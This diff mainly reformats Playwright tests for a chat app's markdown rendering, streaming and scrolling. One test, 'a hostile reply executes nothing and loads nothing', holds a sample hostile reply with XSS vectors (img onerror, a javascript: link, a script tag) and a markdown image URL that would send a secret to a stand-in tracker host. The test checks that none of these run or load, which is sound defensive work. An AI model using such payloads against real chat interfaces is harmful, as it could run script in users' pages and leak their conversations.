@@ -22,7 +22,10 @@ async function markdownWhileStreaming(page: Page, app: SluiceApp) {
   await expect(app.lastReply().getByRole('table').first()).toBeVisible();
 }
 
-test('a streaming reply is parsed off the page, in its markdown worker, and shows as markdown while it streams', async ({ page, app }) => {
+test('a streaming reply is parsed off the page, in its markdown worker, and shows as markdown while it streams', async ({
+  page,
+  app,
+}) => {
   await markdownWhileStreaming(page, app);
   const names = await Promise.all(page.workers().map((worker) => worker.evaluate(() => self.name)));
   expect(names).toContain('sluice-markdown');
@@ -36,7 +39,12 @@ test('without its markdown worker, the page parses a streaming reply itself', as
     const Real = window.Worker;
     window.Worker = class extends Real {
       constructor(url: string | URL, options?: WorkerOptions) {
-        super(options?.name === 'sluice-markdown' ? URL.createObjectURL(new Blob(['throw new Error("no markdown here")'], { type: 'text/javascript' })) : url, options);
+        super(
+          options?.name === 'sluice-markdown'
+            ? URL.createObjectURL(new Blob(['throw new Error("no markdown here")'], { type: 'text/javascript' }))
+            : url,
+          options,
+        );
       }
     };
   });
@@ -140,7 +148,8 @@ test.describe('each failure shows, with what to do', () => {
 });
 
 test('a hostile reply executes nothing and loads nothing', async ({ page, app }) => {
-  const hostile = 'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) <script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
+  const hostile =
+    'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) <script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
   const fetched: string[] = [];
   page.on('request', (request) => fetched.push(request.url()));
   await app.ask('sim-openai::sim-echo', hostile);
@@ -149,14 +158,21 @@ test('a hostile reply executes nothing and loads nothing', async ({ page, app })
   await expect(reply).toContainText('click me');
   expect(await reply.locator('img, script').count()).toBe(0);
   // An image is a link to open, never fetched: its URL could carry the conversation away.
-  await expect(reply.getByRole('link', { name: 'Image: the chat so far' })).toHaveAttribute('href', 'https://tracker.invalid/p.png?q=secret');
+  await expect(reply.getByRole('link', { name: 'Image: the chat so far' })).toHaveAttribute(
+    'href',
+    'https://tracker.invalid/p.png?q=secret',
+  );
   expect(fetched.filter((url) => url.includes('tracker.invalid'))).toEqual([]);
-  for (const href of await reply.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''))) expect(href).not.toMatch(/^javascript:/i);
+  for (const href of await reply.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? '')))
+    expect(href).not.toMatch(/^javascript:/i);
   await reply.getByText('click me').click();
   expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
 });
 
-test('one store update per frame at most, and finished messages do not re-render during a later stream', async ({ page, app }) => {
+test('one store update per frame at most, and finished messages do not re-render during a later stream', async ({
+  page,
+  app,
+}) => {
   await app.ask('sim-openai::sim-markdown', 'tokens=200 tps=2000 delay=0');
   await app.done();
   // The first reply's last trees and highlighting land after its end (on a loaded CI machine,
@@ -182,7 +198,10 @@ test('one store update per frame at most, and finished messages do not re-render
 // Chromium follows by scroll anchoring once the reply outgrows the window; a browser
 // without anchoring (Safari) by script, which the second run makes this Chromium into.
 for (const anchoring of [true, false]) {
-  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${anchoring ? 'scroll anchoring' : 'scripted, no anchoring'})`, async ({ page, app }) => {
+  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${anchoring ? 'scroll anchoring' : 'scripted, no anchoring'})`, async ({
+    page,
+    app,
+  }) => {
     if (!anchoring) await withoutScrollAnchoring(page);
     await app.open();
     const gapBelow = () => page.evaluate(() => document.documentElement.scrollHeight - (window.scrollY + window.innerHeight));
